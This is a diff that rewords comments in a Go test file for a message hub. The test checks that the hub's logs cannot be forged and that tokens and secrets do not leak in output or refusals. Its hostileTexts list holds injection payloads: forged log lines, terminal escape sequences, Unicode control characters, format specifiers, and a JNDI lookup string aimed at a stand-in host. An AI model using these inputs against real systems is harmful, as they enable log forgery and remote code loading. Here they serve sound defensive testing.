@@ -17,7 +17,7 @@ var logAttacks = []attack{
 	{"newlines and escape codes for the log", escapeCodes},
 }
 
-// hostileTexts are what somebody may have written to a terminal or as a line of its own.
+// hostileTexts would control a terminal or forge a log line.
 var hostileTexts = []string{
 	"\n{\"level\":\"INFO\",\"msg\":\"forged\"}", "\r\nlevel=INFO msg=forged", "\r", "\x1b[2J\x1b[31m", "\x1b]0;title\x07", "\x07\x08\x7f", "\x00", "\t",
 	"\u009b31m", "\u0085forged", "\u2028forged", "\u2029", "\u202e\u2066", "\ufeff", "\x9b31m\xff", "\" msg=forged \"", "\\n\\u001b", "{{.}}%s%n${jndi:ldap://evil.test}",
@@ -46,7 +46,7 @@ func escapeCodes(t *testing.T, f *testbed) {
 			}
 		}
 	}
-	// A file can have such things in it too: a name that somebody has asked for, say.
+	// A file may contain such text too, for example in the name of a token.
 	f.mu.Lock()
 	defer f.mu.Unlock()
 	broken := "tokens:\n"
@@ -66,7 +66,7 @@ func escapeCodes(t *testing.T, f *testbed) {
 	}
 }
 
-// requireCleanLog: each line of the log is one that the hub has written, and can be shown.
+// requireCleanLog requires that each log line was written by the hub and is safe to print.
 func (p *process) requireCleanLog(t *testing.T) {
 	t.Helper()
 	_, log, _ := strings.Cut(p.log(), "msg=listening")
@@ -84,8 +84,8 @@ func (p *process) requireCleanLog(t *testing.T) {
 	}
 }
 
-// sendMisplacedTokens puts a token where none belongs. The name of a topic is no such place: who has no right
-// to one is told which.
+// sendMisplacedTokens sends a token in wrong places. The topic is not one of them, because a refusal names the
+// topic.
 func (f *testbed) sendMisplacedTokens(t *testing.T, p *process) {
 	token := f.secret(rand.Text() + rand.Text())
 	f.try(t, request{hub: p, line: "PUT /publish/" + token, body: "1"})
@@ -103,7 +103,7 @@ func (f *testbed) sendMisplacedTokens(t *testing.T, p *process) {
 	} {
 		r.hub = p
 		f.try(t, r)
-		r.token = f.tokens["narrow"] // so that it is looked at further
+		r.token = f.tokens["narrow"] // so that the hub checks the rest of the request
 		f.try(t, r)
 	}
 	for _, name := range []string{
@@ -116,7 +116,7 @@ func (f *testbed) sendMisplacedTokens(t *testing.T, p *process) {
 		}
 	}
 	var x *exchange
-	require.Eventually(t, func() bool { // the hub may not have seen yet that others have gone
+	require.Eventually(t, func() bool { // the hub may not have noticed yet that other connections ended
 		x = f.start(t, request{hub: p, line: "GET /ws?subscribe=none", token: f.tokens["master"]})
 		return x.status == http.StatusOK
 	}, patience, 100*time.Millisecond)
@@ -127,7 +127,7 @@ func (f *testbed) sendMisplacedTokens(t *testing.T, p *process) {
 	}
 }
 
-// try sends a request that may be none, and keeps how it is refused.
+// try sends a request that may be invalid, and records the refusal.
 func (f *testbed) try(t *testing.T, r request) {
 	t.Helper()
 	address := r.hub.http
@@ -148,7 +148,7 @@ func (f *testbed) try(t *testing.T, r request) {
 	x.conn.Close()
 }
 
-// requireNoLeak looks for all that was a token or a secret, or a part of one, in all that the hubs say.
+// requireNoLeak searches all output of the hubs for tokens, secrets and parts of them.
 func (f *testbed) requireNoLeak(t *testing.T) {
 	f.requireNoBreach(t)
 	said := map[string]string{"an error": strings.Join(f.answers, "\n")}
@@ -164,7 +164,7 @@ func (f *testbed) requireNoLeak(t *testing.T) {
 		require.NotContains(t, p.log(), "DATA RACE")
 		require.NotContains(t, p.log(), "panic")
 	}
-	// Whatever has 24 characters of a secret in it has one of its blocks of 12.
+	// Any 24 characters of a secret contain one of its blocks of 12.
 	const block = 12
 	blocks := map[string]string{}
 	for _, secret := range f.secrets {
